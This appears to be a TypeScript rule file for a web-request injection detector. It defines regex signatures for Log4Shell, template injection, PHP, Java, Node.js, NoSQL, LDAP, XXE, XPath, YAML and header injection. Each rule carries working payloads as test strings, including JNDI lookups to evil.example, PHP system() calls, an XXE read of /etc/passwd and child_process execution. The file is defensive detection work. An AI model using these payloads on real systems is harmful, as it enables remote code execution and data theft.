import { signaturesOf, type SignatureRow } from "./rows.ts";
import { AGENT, HEADERS, INPUT, PATH, type Signature } from "./signature.ts";

const ANYWHERE = INPUT | PATH | HEADERS | AGENT;

const TEMPLATES: readonly SignatureRow[] = [
  {
    slug: "java-jndi",
    title: "Log4Shell: a look-up in a logged value",
    pattern: String.raw`\$\{[^}]{0,40}(?:j(?:\$\{[^}]{0,40}\}?)?n|jndi|j\}|:-j)|\$\{(?:jndi|ctx|java|env|sys|main|marker|date|lower|upper|base64|k8s|docker|spring|web|bundle|map|event|sd|log4j)(?::|%3a)|\$\{(?:[a-z0-9_]{0,20}:){1,4}-|\$\{\$\{`,
    needs: ["${"],
    targets: ANYWHERE,
    hits: [
      "${jndi:ldap://evil.example/a}",
      "${${lower:j}ndi:rmi://x}",
      "${${::-j}${::-n}di:x}",
      "${env:AWS_SECRET_ACCESS_KEY}",
      "%24%7Bjndi:dns://x%7D",
      "${j${k8s:k5:-ND}i:ldap://x}",
    ],
    misses: ["${name}", "costs ${5}", "${user.name}", "a $ {b}"],
  },
  {
    slug: "template-expression",
    title: "Template injection: an expression that is worked out",
    pattern: String.raw`(?:\{\{|\$\{|#\{|<%=?|\{%|\[\[|@\(|\*\{) ?['"(]?\d{1,10} ?['"]? ?[*+] ?['"]?\d{1,10} ?['"]?\)? ?(?:\}\}|\}|%>|%\}|\]\]|\))`,
    needs: ["{{", "${", "#{", "<%", "{%", "[[", "@(", "*{"],
    targets: ANYWHERE,
    hits: ["{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{7*'7'}}", "@(1+2)"],
    misses: ["{{name}}", "[[1, 2]]", "${price}"],
  },
  {
    slug: "template-objects",
    title: "Template injection: ways from a template to the system",
    // Of braces that are repeated each is looked behind as far as the next one only.
    pattern: String.raw`(?:\{\{|\{%|\$\{|#\{|<%|\*\{|#set ?\()[^{}<]{0,120}(?:__(?:class|globals|builtins|mro|subclasses|init|import|base)__|request ?[.|] ?(?:application|environ|attr)|self ?\.|config ?(?:\.|\[|\|)|lipsum|cycler|joiner|namespace|getruntime|class\.forname|t\(java\.|freemarker|execute ?\(|new ?\(|_self|registerundefinedfiltercallback|filter\('system|system ?\(|popen|os\.|range\.constructor|process\.|require ?\(|__proto__|constructor)`,
    needs: ["{{", "{%", "${", "#{", "<%", "*{", "#set"],
    targets: ANYWHERE,
    hits: [
      "{{config.items()}}",
      "{{''.__class__.__mro__[1].__subclasses__()}}",
      "${T(java.lang.Runtime).getRuntime().exec('id')}",
      '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")} ${freemarker}',
      '{{_self.env.registerUndefinedFilterCallback("exec")}}',
      "<%= system('id') %>",
      "{{request|attr('application')}}",
    ],
    misses: ["{{user.name}}", "{{ product.title }}", "{% if user %}", "${item.newest}"],
  },
  {
    slug: "template-python",
    title: "Python objects that lead to the system",
    pattern: String.raw`__(?:class|globals|builtins|mro|subclasses|import|getattribute|reduce)__ ?(?:\.|\[|\(|\b)|\b__import__ ?\(|\bos\.(?:system|popen|exec[lv]p?e?) ?\(|\bsubprocess\.(?:popen|call|run|check_output)|\bpickle\.loads|\beval ?\( ?compile ?\(`,
    needs: ["__", "os.", "subprocess.", "pickle.", "compile"],
    targets: ANYWHERE,
    hits: ["''.__class__.__mro__", "__import__('os').system('id')", "os.popen('id')", "subprocess.check_output"],
    misses: ["__init__.py", "os.path", "the subprocess. Call"],
  },
];

const PHP: readonly SignatureRow[] = [
  {
    slug: "php-tag",
    title: "PHP injection: an opening tag",
    pattern: String.raw`<\?(?:php\b|=|[ ](?:eval|system|echo|exec|passthru|include|require|phpinfo|\$_))|<script language ?= ?["']?php`,
    needs: ["<?", "<script"],
    targets: ANYWHERE,
    hits: ["<?php system($_GET['c']); ?>", "<?=`id`?>", "<?PHP phpinfo()"],
    misses: ['<?xml version="1.0"?>', "what <? is", "a <?> b"],
  },
  {
    slug: "php-functions",
    title: "PHP injection: functions that run something",
    pattern: String.raw`\b(?:system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec|assert|eval|create_function|call_user_func(?:_array)?|preg_replace|include(?:_once)?|require(?:_once)?|file_(?:get|put)_contents|fopen|readfile|highlight_file|show_source|move_uploaded_file|base64_decode|gzinflate|str_rot13|unserialize|phpinfo|ini_set|putenv|dl|array_map|array_filter|usort) ?\( ?(?:['"${"`"}$@][a-z0-9_$'"/(-]|base64_|chr ?\(|\)|str_|get_|end ?\(|pos ?\()`,
    needs: ["("],
    hits: [
      "system('id')",
      "eval($_POST[x])",
      "phpinfo()",
      "file_get_contents('/etc/hosts')",
      'base64_decode("aWQ=")',
      "call_user_func('system','id')",
    ],
    misses: ["the system (old)", "exec (a,b)", "require (1)", "include('"],
    isCertain: false,
  },
  {
    slug: "php-variables",
    title: "PHP injection: names of its own variables",
    pattern: String.raw`\$_(?:get|post|request|server|cookie|files|session|env) ?(?:\[|\{)|\bglobals ?\[|\bphp_(?:sapi|uname|self)\b|^(?:_(?:get|post|request|server|cookie|files|session|env)|globals)\[`,
    needs: ["_get", "_post", "_request", "_server", "_cookie", "_files", "_session", "_env", "globals", "php_"],
    hits: ["$_GET['x']", "$_REQUEST{x}", "GLOBALS[x]", "_SERVER[DOCUMENT_ROOT]"],
    misses: ["costs $_5", "global s", "my_get[x]"],
  },
  {
    slug: "php-object",
    title: "PHP injection: a serialised object",
    pattern: String.raw`(?:^|[;{:=&])[oc]:\+?\d{1,4}:"[a-z0-9_\\]{1,80}":\+?\d{1,4}:\{`,
    needs: ['":'],
    hits: ['O:8:"stdClass":1:{s:1:"a";i:1;}', 'a:1:{i:0;O:4:"Evil":0:{}}'],
    misses: ['{"o":8,"a":"b"}', 'time: "12:30":'],
  },
  {
    slug: "php-settings",
    title: "PHP injection: settings for its interpreter",
    pattern: String.raw`(?:allow_url_include|auto_prepend_file|auto_append_file|disable_functions|open_basedir|safe_mode|suhosin\.simulation) ?=|-d ?(?:allow_url_include|auto_prepend_file)|\bcgi\.force_redirect`,
    targets: INPUT | PATH,
    hits: ["-d allow_url_include=on -d auto_prepend_file=php://input", "allow_url_include=1"],
    misses: ["safe mode = on", "open based dir"],
  },
];

const JAVA: readonly SignatureRow[] = [
  {
    slug: "java-runtime",
    title: "Java injection: classes that run something",
    pattern: String.raw`(?:java\.lang\.(?:runtime|processbuilder|system|class|thread|reflect)|getruntime ?\( ?\)|processbuilder ?\(|javax\.(?:script|naming|el)\.|org\.apache\.(?:commons\.(?:collections|fileupload|jelly)|xalan|log4j|struts)|com\.sun\.(?:rowset|org|jndi)|sun\.(?:misc|reflect)\.|groovy\.lang|org\.springframework\.(?:context|beans|expression)|ognl\.ognlcontext|freemarker\.template\.utility|bsh\.interpreter|classloader\.(?:url|resources|parent|defaultassertionstatus)|class\.module\.classloader)`,
    targets: ANYWHERE,
    hits: [
      "java.lang.Runtime.getRuntime().exec('id')",
      "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
      "new javax.script.ScriptEngineManager()",
      "org.apache.commons.collections.functors",
    ],
    misses: ["java language", "the processbuilders", "run time ()"],
  },
  {
    slug: "java-ognl",
    title: "Java injection: expressions of OGNL and SpEL",
    pattern: String.raw`(?:%\{|\$\{|\(|^)[ (]{0,4}#(?:_memberaccess|context|cmd|p|dm|container|ognlutil|iswin|cmds|process|ros|req|res|attr|application|session|parameters|rt|root)(?:\[|\.|=| =)|@(?:ognl\.ognlcontext|java\.lang|org\.apache)|_memberaccess|xwork\.methodaccessor|#\{t ?\(|\bt\(java\.`,
    needs: ["#", "@", "_memberaccess", "xwork", "t("],
    targets: ANYWHERE,
    hits: [
      "%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
      "${(#cmd='id')}",
      "redirect:${#context['x']}",
      "T(java.lang.Runtime)",
    ],
    misses: ["#1 in context", "issue (#5)", "@orgs"],
  },
  {
    slug: "java-serialized",
    title: "Java injection: a serialised object",
    pattern: String.raw`^(?:ro0ab[a-z0-9+/]|h4siaaaaaaaa|\xac\xed\x00?\x05|aced0005)`,
    needs: ["ro0ab", "h4siaaaa", "\xac\xed", "aced0005"],
    targets: INPUT | HEADERS,
    hits: ["rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", "aced00057372"],
    misses: ["ro0t", "placed0005"],
  },
];

const NODE: readonly SignatureRow[] = [
  {
    slug: "node-injection",
    title: "JavaScript injection on the server",
    pattern: String.raw`\b(?:require ?\( ?['"${"`"}](?:child_process|fs|net|http|os|vm|process|module|node:)|child_process['"]? ?\)? ?\.|process\.(?:mainmodule|binding\b|env\b|exit\b|kill\b|argv\b|dlopen)|global\.process|globalthis ?\. ?(?:process|constructor)|execsync ?\(|spawnsync ?\(|import ?\( ?['"${"`"}](?:child_process|fs|node:)|_\$\$nd_func\$\$_|this ?\. ?constructor ?\. ?constructor)`,
    needs: ["require", "child_process", "process", "global", "execsync", "spawnsync", "import", "nd_func", "constructor"],
    targets: ANYWHERE,
    hits: [
      "require('child_process').exec('id')",
      "process.mainModule.require('fs')",
      '{"rce":"_$$ND_FUNC$$_function(){}"}',
      "this.constructor.constructor('return process')()",
    ],
    misses: ["requires (fs)", "the process. Exit", "import (goods)", "process.environment"],
  },
  {
    slug: "node-prototype",
    title: "Prototype pollution",
    pattern: String.raw`(?:^|[\[.{"' ])__proto__(?:$|[\].:"' =\[])|constructor(?:\]?\[|\.)prototype|\[constructor\]\[prototype\]`,
    needs: ["__proto__", "prototype"],
    hits: ["__proto__[admin]", "a[__proto__][b]", "constructor.prototype.x", "constructor[prototype][x]"],
    misses: ["a prototype", "the constructor's prototype", "my__proto__x"],
  },
];

const DATA: readonly SignatureRow[] = [
  {
    slug: "nosql-operators",
    title: "NoSQL injection: operators in names of arguments",
    pattern: String.raw`(?:^|\[|\.)\$(?:ne|eq|gt|gte|lt|lte|in|nin|not|or|and|nor|regex|where|exists|type|expr|jsonschema|mod|all|elemmatch|size|function|lookup|merge|out)\]?$`,
    needs: ["$"],
    hits: ["user[$ne]", "$where", "a[$regex]", "$or"],
    misses: ["$100", "us$ not", "price[$]"],
  },
  {
    slug: "nosql-script",
    title: "NoSQL injection: scripts in queries",
    pattern: String.raw`(?:\$where['"]? ?:|this\.[a-z_]{1,30} ?(?:==|!=|\.match ?\()|\bdb\.[a-z_]{1,30}\.(?:find|drop|insert|remove|update|aggregate|mapreduce) ?\(|['"] ?(?:\|\||&&) ?['"]?[a-z0-9]{1,10}['"]? ?==)`,
    needs: ["$where", "this.", "db.", "||", "&&"],
    hits: ["';return this.password.match(/a/)//", "db.users.find()", "' || 'a'=='a"],
    misses: ["this. That", "db. users", "a && b == c"],
    isCertain: false,
  },
  {
    slug: "ldap-filter",
    title: "LDAP injection: a filter",
    pattern: String.raw`\)\((?:\||&|!|[a-z0-9-]{1,30}[~<>]?=)|\(\|\([a-z0-9-]{1,30}=|\*\)\(|\(&\([a-z]`,
    needs: [")(", "(|(", "(&("],
    hits: ["*)(uid=*))(|(uid=*", "admin)(&(password=*)", "(|(cn=*)"],
    misses: ["f(x)(y)", "(a) (b)", "smile :)("],
  },
  {
    slug: "xml-entity",
    title: "XML: entities and documents from elsewhere",
    pattern: String.raw`<!(?:entity|doctype)[ \[][^>]{0,200}(?:system|public|\[|%|entity)|<!entity|<\?xml-stylesheet|<xi:include|xmlns:xi ?=|<xsl:|<!\[cdata\[ ?<`,
    needs: ["<!entity", "<!doctype", "xml-stylesheet", "xi:include", "xmlns:xi", "<xsl:", "<![cdata["],
    hits: ['<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>', '<!ENTITY % p SYSTEM "http://x">', '<xi:include href="x"/>'],
    misses: ["<!doctype html>", "<a>b</a>", "an entity"],
  },
  {
    slug: "xpath",
    title: "XPath injection",
    pattern: String.raw`['"] ?\]? ?(?:\||or|and) ?(?:/{1,2}[a-z*]{1,20}|count ?\(|position ?\(|string-length ?\(|substring ?\(|name ?\(|text ?\()|/{1,2}(?:ancestor|child|descendant|following|parent|preceding|self)(?:-or-self|-sibling)?::`,
    needs: ["'", '"', "::"],
    hits: ["' or count(/*)=1 or 'a'='b", "x'] | //user/*[contains(*,'", "/child::node()"],
    misses: ["'a' or counting", "std::vector", "parent: self"],
    isCertain: false,
  },
  {
    slug: "yaml-objects",
    title: "YAML that makes objects",
    pattern: String.raw`!!python/(?:object|name|module)|!!(?:javax|java|com|org)\.[a-z]{1,40}\.[a-z.]{1,80}|!(?:ruby|php)/(?:object|hash|struct|array|class)\b`,
    hits: [
      '!!python/object/apply:os.system ["id"]',
      "!!python/object/new:type",
      "a: !!javax.script.ScriptEngineManager [x]",
      "--- !ruby/object:Gem::Installer",
    ],
    misses: ["learn python/object now!!", "wow!! java. And more", "!important", "see com.example!!"],
  },
  {
    slug: "ssi",
    title: "Server-side includes",
    pattern: String.raw`<!--[ ]?#[ ]?(?:exec|include|echo|config|printenv|fsize|flastmod|set)\b|<esi:(?:include|vars|inline|comment|remove|try)`,
    targets: ANYWHERE,
    hits: ['<!--#exec cmd="id"-->', '<!--#include file="/etc/x"-->', '<esi:include src="http://x"/>'],
    misses: ["<!-- a comment -->", "<!-- #1 -->"],
  },
  {
    slug: "header-injection",
    title: "A response header in a value",
    pattern: String.raw`(?:^|[^a-z-])(?:set-cookie ?: ?[a-z0-9_-]{1,40}=|content-type ?: ?text/html|content-length ?: ?\d|location ?: ?https?://|http/(?:0\.9|1\.[01]|2)(?: \d{3}|$))`,
    needs: ["set-cookie", "content-type", "content-length", "location", "http/"],
    hits: ["x\r\nSet-Cookie: a=b", "%0d%0aLocation: http://evil.example", "a\r\n\r\nHTTP/1.1 200 OK", "%0aContent-Length: 0"],
    misses: ["set a cookie", "my location: home", "over http/s"],
    paranoia: 2,
  },
];

export const TEMPLATE_INJECTION: readonly Signature[] = signaturesOf("template-injection", TEMPLATES);
export const PHP_INJECTION: readonly Signature[] = signaturesOf("php", PHP);
export const JAVA_INJECTION: readonly Signature[] = signaturesOf("java", JAVA);
export const NODE_INJECTION: readonly Signature[] = signaturesOf("nodejs", NODE);
export const DATA_INJECTION: readonly Signature[] = signaturesOf("nosql-ldap-xml", DATA);
